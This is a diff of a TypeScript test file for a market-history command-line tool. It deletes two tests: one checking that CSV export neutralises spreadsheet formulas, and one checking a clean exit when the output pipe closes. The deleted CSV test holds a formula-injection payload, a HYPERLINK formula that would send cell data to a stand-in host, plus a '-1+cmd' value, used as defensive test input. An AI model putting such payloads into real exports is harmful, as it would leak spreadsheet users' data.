@@ -273,21 +273,6 @@ const ingest = (records: readonly unknown[]) =>
     input: records.map((record) => `${JSON.stringify(record)}\n`).join(''),
   });
 
-test('history --csv gives texts that a spreadsheet would take for formulas an apostrophe, and no number', async () => {
-  const label = '=HYPERLINK("https://x.example?"&A1)';
-  const values = [price('formulas', 0, -3698), price('formulas', 1, 100)];
-  const labels = [label, '-1+cmd'];
-  const records = values.map((record, index) => ({ ...(record as object), sourceLabel: labels[index] }));
-  const taken = await ingest([market('formulas'), ...records]);
-  expect(taken.code, taken.errors).toBe(0);
-  const [, first = '', newest = ''] = linesOf(await run('markets', 'history', 'formulas', '--csv'));
-  expect(first).toMatch(/^[^,]+,price,-36\.98,USD,-36\.98,-3698,/);
-  expect(first).toContain(`,"'=HYPERLINK(""https://x.example?""&A1)",https://`);
-  expect(newest).toContain(",'-1+cmd,https://");
-  expect((await run('markets', 'history', 'formulas', '--ndjson')).output).toContain(JSON.stringify(label));
-  expect((await run('markets', 'history', '--help')).output).toContain('apostrophe');
-});
-
 test('the table of a history says which values were superseded and retracted, and how', async () => {
   const values = [0, 1, 2, 3].map((day) => price('remarks', day, 100 + day) as object);
   const retracted = (day: number, kind: string) => {
@@ -337,16 +322,4 @@ test('--as-of shows a market and its history as they were, by either clock', asy
   const future = await run('markets', 'show', 'past', '--as-of', '2100-01-01T00:00:00Z');
   expect([future.code, future.output]).toEqual([2, '']);
   expect(early.errors).toMatch(/the earliest recordedAt is 20[\s\S]*--by-release/);
-});
-
-test('a reader that goes away ends the command without an error', async () => {
-  const { spawnTidemark } = await import('./tidemark.ts');
-  const child = spawnTidemark(['markets', 'list', '--data', server.data]);
-  let errors = '';
-  child.stderr?.on('data', (chunk: Buffer) => {
-    errors += chunk.toString('utf8');
-  });
-  child.stdout?.once('data', () => child.stdout?.destroy());
-  const code = await new Promise((resolve) => child.once('close', resolve));
-  expect([code, errors]).toEqual([0, '']);
 });
